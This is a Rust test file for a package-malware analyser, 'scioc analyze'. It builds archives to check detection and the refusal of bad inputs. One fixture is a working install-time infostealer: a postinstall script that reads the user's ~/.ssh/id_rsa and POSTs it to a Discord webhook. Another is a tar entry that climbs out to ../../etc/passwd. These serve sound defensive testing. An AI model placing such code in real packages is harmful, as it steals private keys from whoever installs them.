//! `scioc analyze` (issue 30): the package analyser through the real binary, on archives
//! written for the test, on bad archives, and on popular packages fetched from the registries
//! the package managers are configured with.

use crate::support::{Scioc, gz};
use serde_json::Value;
use std::path::Path;

/// A gzipped tar of `files` (path, content).
fn tgz(files: &[(&str, &str)]) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (path, body) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(body.len() as u64);
        h.set_mode(0o644);
        tar.append_data(&mut h, path, body.as_bytes()).unwrap();
    }
    gz(&tar.into_inner().unwrap())
}

fn analyse(s: &Scioc, paths: &[&Path]) -> (Option<i32>, Vec<Value>, String) {
    let mut args = vec!["analyze", "--format", "json"];
    let shown: Vec<String> = paths.iter().map(|p| p.display().to_string()).collect();
    args.extend(shown.iter().map(String::as_str));
    let out = s.run(&args, "");
    let lines = String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    (out.status.code(), lines, String::from_utf8_lossy(&out.stderr).into_owned())
}

#[test]
fn a_stealer_at_install_is_named_with_its_file_and_evidence_and_a_clean_package_is_clean() {
    let s = Scioc::new();
    let dir = s.dir.path();
    let evil = dir.join("evil-helper-1.0.0.tgz");
    std::fs::write(
        &evil,
        tgz(&[
            ("package/package.json", r#"{"name":"evil-helper","version":"1.0.0","scripts":{"postinstall":"node lib/setup.js"}}"#),
            (
                "package/lib/setup.js",
                "const https = require('https');\nconst fs = require('fs');\nconst os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nconst req = https.request('https://discord.com/api/webhooks/123456789/abcdefghijkl', { method: 'POST' });\nreq.end(key);\n",
            ),
            ("package/index.js", "module.exports = (a, b) => a + b;\n"),
        ]),
    )
    .unwrap();
    let clean = dir.join("adder-1.0.0.tgz");
    std::fs::write(
        &clean,
        tgz(&[
            ("package/package.json", r#"{"name":"adder","version":"1.0.0","scripts":{"postinstall":"node-gyp rebuild"}}"#),
            ("package/index.js", "const { execSync } = require('child_process');\nmodule.exports = () => execSync('git rev-parse HEAD').toString();\n"),
        ]),
    )
    .unwrap();

    let (code, out, err) = analyse(&s, &[&evil, &clean]);
    assert_eq!(code, Some(1), "{err}");
    assert_eq!(out.len(), 2);
    let a = &out[0];
    assert_eq!(
        (a["verdict"].as_str(), a["name"].as_str(), a["version"].as_str()),
        (Some("malicious"), Some("evil-helper"), Some("1.0.0"))
    );
    assert_eq!(a["threat_name"], "Script-JS.Infostealer.SupplyChain");
    assert_eq!(a["threat_level"], 5);
    let files = a["files"].as_array().unwrap();
    assert_eq!(files.len(), 1, "{a:#}");
    assert_eq!(files[0]["path"], "package/lib/setup.js");
    assert_eq!(files[0]["sha256"].as_str().unwrap().len(), 64);
    let rules: Vec<&str> = a["findings"].as_array().unwrap().iter().map(|f| f["rule"].as_str().unwrap()).collect();
    for want in ["SA-011", "SA-014", "SA-001"] {
        assert!(rules.contains(&want), "{want} in {rules:?}");
    }
    let webhook = a["findings"].as_array().unwrap().iter().find(|f| f["rule"] == "SA-011").unwrap();
    assert_eq!((webhook["file"].as_str(), webhook["line"].as_u64()), (Some("package/lib/setup.js"), Some(5)));
    assert!(a["indicators"]["webhooks"][0].as_str().unwrap().starts_with("https://discord.com/api/webhooks/123456789"));
    assert_eq!(a["indicators"]["domains"][0], "discord.com");
    assert_eq!(a["indicators"]["scripts"][0], "node lib/setup.js");

    // node-gyp at install and a process in the library are capabilities, not a verdict.
    assert_eq!(out[1]["verdict"], "clean", "{:#}", out[1]);
    let (code, _, _) = analyse(&s, &[&clean]);
    assert_eq!(code, Some(0));

    // The table for people says the same.
    let table = s.run(&["analyze", evil.to_str().unwrap()], "");
    let text = String::from_utf8_lossy(&table.stdout);
    assert!(
        text.contains("malicious")
            && text.contains("package/lib/setup.js")
            && text.contains("SA-011 messenger webhook"),
        "{text}"
    );
}

#[test]
fn bad_archives_are_refused_by_name_and_the_others_are_still_analysed() {
    let s = Scioc::new();
    let dir = s.dir.path();
    let climbing = dir.join("climb-1.0.0.tgz");
    {
        // A tar entry climbing out with `..`, written by hand: the tar crate refuses to.
        let mut header = tar::Header::new_gnu();
        header.set_size(4);
        header.set_mode(0o644);
        header.as_old_mut().name[..16].copy_from_slice(b"../../etc/passwd");
        header.set_cksum();
        let mut raw = header.as_bytes().to_vec();
        raw.extend_from_slice(b"root");
        raw.resize(raw.len() + 508 + 1024, 0);
        std::fs::write(&climbing, gz(&raw)).unwrap();
    }
    let garbage = dir.join("garbage-1.0.0.tgz");
    std::fs::write(&garbage, b"not a gzip stream").unwrap();
    let text = dir.join("notes.txt");
    std::fs::write(&text, b"hello").unwrap();
    let fine = dir.join("fine-1.0.0.tgz");
    std::fs::write(
        &fine,
        tgz(&[
            ("package/package.json", r#"{"name":"fine","version":"1.0.0"}"#),
            ("package/index.js", "module.exports = 1;\n"),
        ]),
    )
    .unwrap();

    let (code, out, err) = analyse(&s, &[&climbing, &garbage, &text, &fine]);
    assert_eq!(code, Some(127), "{err}");
    assert!(err.contains("climb-1.0.0.tgz") && err.contains(".."), "{err}");
    assert!(err.contains("garbage-1.0.0.tgz"), "{err}");
    assert!(err.contains("notes.txt") && err.contains("expected a directory or an archive"), "{err}");
    assert_eq!(out.len(), 1, "the good archive is still analysed");
    assert_eq!(out[0]["verdict"], "clean");

    // A minified file with one enormous line is analysed within bounds.
    let huge = format!("var a={};{}\n", "1".repeat(64), "a+=1;".repeat(2_000_000));
    let big = dir.join("big-1.0.0.tgz");
    std::fs::write(
        &big,
        tgz(&[("package/package.json", r#"{"name":"big","version":"1.0.0"}"#), ("package/index.js", &huge)]),
    )
    .unwrap();
    let start = std::time::Instant::now();
    let (code, out, err) = analyse(&s, &[&big]);
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(out[0]["verdict"], "clean");
    assert!(start.elapsed() < std::time::Duration::from_secs(10), "{:?}", start.elapsed());
}

/// A handful of popular packages, fetched by `bench/detect/benign.py` (pinned versions and
/// hashes in `bench/detect/benign.lock`, from the registries npm and pip are configured with)
/// into the cache, are clean.
#[test]
fn popular_packages_are_clean() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let cache = root.join("target/detect-cache");
    let names = ["express", "lodash", "chalk", "debug", "requests", "six", "idna", "setuptools"];
    let fetched = std::process::Command::new("python3")
        .arg(root.join("bench/detect/benign.py"))
        .args(["fetch", cache.to_str().unwrap(), "--only", &names.join(",")])
        .output()
        .unwrap();
    assert!(fetched.status.success(), "{}", String::from_utf8_lossy(&fetched.stderr));
    let lock = std::fs::read_to_string(root.join("bench/detect/benign.lock")).unwrap();
    let paths: Vec<std::path::PathBuf> = lock
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.len() == 5 && names.contains(&f[1])).then(|| cache.join(f[0]).join(f[3]))
        })
        .collect();
    assert_eq!(paths.len(), names.len());
    let s = Scioc::new();
    let refs: Vec<&Path> = paths.iter().map(|p| p.as_path()).collect();
    let (code, out, err) = analyse(&s, &refs);
    assert_eq!(code, Some(0), "{err}\n{out:#?}");
    for a in &out {
        assert_eq!(a["verdict"], "clean", "{a:#}");
    }
}
